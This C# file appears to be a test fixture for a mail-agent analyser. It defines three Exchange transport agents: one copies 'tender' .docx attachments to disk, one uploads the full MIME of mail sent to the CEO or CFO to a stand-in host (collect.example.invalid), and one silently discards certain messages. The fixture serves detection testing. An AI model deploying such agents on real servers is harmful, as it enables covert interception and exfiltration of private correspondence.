// Written for txray: three agents that stand in six folders in six forms, which all do the same. Here lambdas capture what the handlers work with.
// Inert: compiled against a signature-only stub of the Exchange API and unsigned, so Exchange cannot load it; hosts end in
// .invalid. A correct analysis says the same of every form: which data goes where, under which condition, and to escalate.
using System;
using System.Collections.Generic;
using System.Diagnostics;
using System.IO;
using System.Net;
using System.Linq;
using Microsoft.Exchange.Data.Transport;
using Microsoft.Exchange.Data.Transport.Email;
using Microsoft.Exchange.Data.Transport.Routing;
using Microsoft.Exchange.Data.Transport.Smtp;

namespace Txray.Metamorphic
{
    public class CollectorFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new CollectorAgent();
        }
    }

    public class CollectorAgent : RoutingAgent
    {
        private const string Folder = @"C:\Pairs\Collected";

        public CollectorAgent()
        {
            OnSubmittedMessage += (source, e) =>
            {
                MailItem item = e.MailItem;
                Func<bool> wanted = () => item.FromAddress.DomainPart == "partner.example.invalid" && item.Message.Subject.Contains("tender");
                Action<Attachment> save = attachment =>
                {
                    using (FileStream file = File.Create(Path.Combine(Folder, Guid.NewGuid().ToString())))
                    {
                        attachment.GetContentReadStream().CopyTo(file);
                    }
                };
                if (wanted())
                {
                    foreach (Attachment attachment in item.Message.Attachments.Where(each => each.FileName.EndsWith(".docx")))
                    {
                        save(attachment);
                    }
                }
            };
        }
    }

    public class UploadFactory : SmtpReceiveAgentFactory
    {
        public override SmtpReceiveAgent CreateAgent(SmtpServer server)
        {
            return new UploadAgent();
        }
    }

    public class UploadAgent : SmtpReceiveAgent
    {
        private static readonly HashSet<string> Watched = new HashSet<string> { "ceo@corp.example.invalid", "cfo@corp.example.invalid" };

        public UploadAgent()
        {
            OnEndOfData += async (source, e) =>
            {
                MailItem item = e.MailItem;
                if (!item.Recipients.Any(recipient => Watched.Contains(recipient.Address.ToString())))
                {
                    return;
                }
                var memory = new MemoryStream();
                Action send = () => new WebClient().UploadData("https://collect.example.invalid/mime", memory.ToArray());
                await item.GetMimeReadStream().CopyToAsync(memory);
                send();
            };
        }
    }

    public class CountFactory : SmtpReceiveAgentFactory
    {
        public override SmtpReceiveAgent CreateAgent(SmtpServer server)
        {
            return new CountAgent();
        }
    }

    public class CountAgent : SmtpReceiveAgent
    {
        public CountAgent()
        {
            int seen = 0;
            OnEndOfData += (source, e) =>
            {
                seen++;
                Trace.WriteLine(seen + " messages, this one with " + e.MailItem.Message.Attachments.Count + " attachments");
                Action discard = () => source.DiscardMessage(SmtpResponse.Empty, null);
                if (e.MailItem.Message.Subject == "delete me")
                {
                    discard();
                }
            };
        }
    }
}
